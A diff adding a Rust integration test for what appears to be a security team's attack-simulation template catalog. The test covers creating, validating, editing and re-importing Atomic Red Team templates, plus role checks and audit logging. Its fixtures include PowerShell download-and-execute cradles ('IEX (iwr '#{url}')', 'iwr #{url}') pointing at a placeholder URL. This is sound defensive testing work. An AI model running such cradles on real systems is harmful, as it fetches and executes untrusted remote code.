@@ -6,7 +6,10 @@ use app::server::context::Actor;
 use app::server::templates::import::{AtomicSourceFile, import_atomics};
 use serde_json::{Value, json};
 
-on_both_backends!(the_catalog_lists_filters_and_deactivates_templates);
+on_both_backends!(
+    the_catalog_lists_filters_and_deactivates_templates,
+    admins_write_custom_templates_and_local_fields,
+);
 
 const BUNDLE: &str = include_str!("../fixtures/attack-mini.json");
 
@@ -241,6 +244,188 @@ async fn the_catalog_lists_filters_and_deactivates_templates(app: TestApp) -> Te
             "template.activate",
             "template.deactivate",
             "templates.import"
+        ]
+    );
+    app
+}
+
+async fn admins_write_custom_templates_and_local_fields(app: TestApp) -> TestApp {
+    let admin = app.admin_token().await;
+    app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
+        .await;
+    let body = json!({
+        "technique_id": "t1059.001",
+        "name": "  In-house PowerShell cradle ",
+        "platforms": ["Windows", "windows"],
+        "executor_name": "PowerShell",
+        "command": "iwr #{url}",
+        "input_arguments": [{ "name": "url", "type": "url", "default": "https://x.test" }],
+        "expected_detection": "EDR alert on script block logging",
+        "suggested_tools": ["PowerShell", " "],
+        "severity": "high",
+        "remediation_steps": ["Enable AMSI", "Constrained language mode"]
+    });
+    let response = app
+        .post_json("/api/v1/test-templates", &admin, body.clone())
+        .await;
+    assert_eq!(response.status(), 201);
+    let created = json_body(response).await;
+    assert_eq!(created["source"], "custom");
+    assert_eq!(created["technique_id"], "T1059.001");
+    assert_eq!(created["name"], "In-house PowerShell cradle");
+    assert_eq!(created["platforms"], json!(["windows"]));
+    assert_eq!(created["executor_name"], "powershell");
+    assert_eq!(created["suggested_tools"], json!(["PowerShell"]));
+    assert_eq!(created["severity"], "high");
+    assert_eq!(created["input_arguments"][0]["type"], "url");
+    let id = created["id"].as_str().unwrap().to_owned();
+
+    let response = app
+        .post_json(
+            "/api/v1/test-templates",
+            &admin,
+            json!({ "technique_id": "T4242", "name": "", "executor_name": "cmd.exe", "severity": "urgent",
+                    "input_arguments": [{ "name": "a b" }] }),
+        )
+        .await;
+    assert_eq!(response.status(), 422);
+    let fields = json_body(response).await["fields"].clone();
+    for field in [
+        "technique_id",
+        "name",
+        "executor_name",
+        "severity",
+        "input_arguments",
+    ] {
+        assert!(fields[field].is_string(), "{field}: {fields}");
+    }
+    let response = app
+        .post_json(
+            "/api/v1/test-templates",
+            &admin,
+            json!({ "name": "x", "technique_id": "T1059", "colour": 1 }),
+        )
+        .await;
+    assert!(matches!(response.status().as_u16(), 400 | 422));
+    app.create_user(&admin, "lea", "red_lead", "red-lead-password-1")
+        .await;
+    let lead = app.login("lea", "red-lead-password-1").await;
+    assert_eq!(
+        app.post_json("/api/v1/test-templates", &lead, body)
+            .await
+            .status(),
+        403
+    );
+
+    let response = app
+        .patch_json(
+            &format!("/api/v1/test-templates/{id}"),
+            &admin,
+            json!({ "name": "Cradle v2", "severity": "critical", "platforms": [] }),
+        )
+        .await;
+    assert_eq!(response.status(), 200);
+    let edited = json_body(response).await;
+    assert_eq!(edited["name"], "Cradle v2");
+    assert_eq!(edited["severity"], "critical");
+    assert_eq!(edited["platforms"], json!([]));
+    assert_eq!(
+        app.patch_json(&format!("/api/v1/test-templates/{id}"), &admin, json!({}))
+            .await
+            .status(),
+        400
+    );
+    assert_eq!(
+        app.patch_json(
+            &format!("/api/v1/test-templates/{id}"),
+            &lead,
+            json!({ "severity": "low" })
+        )
+        .await
+        .status(),
+        403
+    );
+
+    // An imported template: local fields change and survive a re-import; the rest is the import's.
+    let db = app.database().await;
+    let file = || {
+        vec![AtomicSourceFile {
+            path: "atomics/T1059.001/T1059.001.yaml".into(),
+            text: POWERSHELL.into(),
+        }]
+    };
+    import_atomics(&db, &Actor::system("test"), file(), &|_, _| {})
+        .await
+        .unwrap();
+    let page = json_body(
+        app.get("/api/v1/test-templates?source=atomic_red_team", &admin)
+            .await,
+    )
+    .await;
+    let atomic = page["items"][0]["id"].as_str().unwrap().to_owned();
+    let response = app
+        .patch_json(
+            &format!("/api/v1/test-templates/{atomic}"),
+            &admin,
+            json!({ "severity": "low", "expected_detection": "Sysmon 1", "remediation_steps": ["Block iwr"] }),
+        )
+        .await;
+    assert_eq!(response.status(), 200);
+    let response = app
+        .patch_json(
+            &format!("/api/v1/test-templates/{atomic}"),
+            &admin,
+            json!({ "command": "whoami" }),
+        )
+        .await;
+    assert_eq!(response.status(), 422);
+    assert!(json_body(response).await["fields"]["command"].is_string());
+    let changed_upstream = POWERSHELL.replace("IEX (iwr '#{url}')", "IEX (irm '#{url}')");
+    let report = import_atomics(
+        &db,
+        &Actor::system("test"),
+        vec![AtomicSourceFile {
+            path: "atomics/T1059.001/T1059.001.yaml".into(),
+            text: changed_upstream,
+        }],
+        &|_, _| {},
+    )
+    .await
+    .unwrap();
+    assert_eq!(report.updated, 1);
+    db.close().await.unwrap();
+    let detail = json_body(
+        app.get(&format!("/api/v1/test-templates/{atomic}"), &admin)
+            .await,
+    )
+    .await;
+    assert_eq!(
+        detail["command"], "IEX (irm '#{url}')",
+        "upstream change applied"
+    );
+    assert_eq!(detail["severity"], "low", "local fields kept");
+    assert_eq!(detail["expected_detection"], "Sysmon 1");
+    assert_eq!(detail["remediation_steps"], json!(["Block iwr"]));
+
+    let audit = json_body(
+        app.get("/api/v1/audit-logs?entity_type=test_template", &admin)
+            .await,
+    )
+    .await;
+    let actions: Vec<&str> = audit["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["action"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        actions,
+        [
+            "templates.import",
+            "template.update",
+            "templates.import",
+            "template.update",
+            "template.create"
         ]
     );
     app
